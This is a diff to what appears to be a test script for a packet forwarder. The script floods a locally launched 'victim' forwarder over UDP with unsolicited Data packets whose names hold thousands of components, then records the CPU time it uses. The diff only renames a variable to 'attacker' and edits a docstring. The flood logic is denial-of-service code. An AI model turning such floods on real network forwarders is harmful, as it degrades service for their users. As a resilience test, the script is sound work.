@@ -1,4 +1,4 @@
-"""Data with thousands of components that nobody has asked for."""
+"""Unsolicited Data with thousands of components."""
 
 import socket
 import struct
@@ -18,11 +18,11 @@ def run(attack):
     # As many components in all.
     floods = {"500 components": [data(name(tlv(8) * 500))] * (8 * count), "4000 components": [data(name(tlv(8) * 4000))] * count}
     spent = {}
-    with victim(attack, 1 << 20) as (forwarder, fetch), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
+    with victim(attack, 1 << 20) as (forwarder, fetch), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
         for kind, packets in floods.items():
-            send(stranger, forwarder.udp, [interest(asked, len(spent) + 1, LASTING, prefix=True)])
+            send(attacker, forwarder.udp, [interest(asked, len(spent) + 1, LASTING, prefix=True)])
             before = cpu(forwarder.program)
-            send(stranger, forwarder.udp, packets, pause=64)
+            send(attacker, forwarder.udp, packets, pause=64)
             spent[kind] = cpu(forwarder.program) - before
         seconds = fetch()
     figures = ", ".join(f"{kind}: {time:.2f} s of CPU time" for kind, time in spent.items())
